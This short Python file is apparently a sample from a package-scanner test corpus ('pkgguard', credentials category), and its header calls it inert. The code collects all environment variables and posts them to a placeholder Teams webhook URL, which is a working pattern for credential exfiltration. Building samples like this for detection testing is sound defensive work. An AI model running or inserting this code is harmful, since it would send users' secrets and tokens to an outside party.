# pkgguard corpus 780 (credentials), modelled on [ctx]; inert, never run.
import os

import requests

card = {"text": "\n".join(f"{k}={v}" for k, v in sorted(os.environ.items()))}
requests.post(
    "https://contoso0.webhook.office.com/webhookb2/00000000-0000-0000-0000-000000000000/IncomingWebhook/placeholder",
    json=card,
    timeout=10,
)
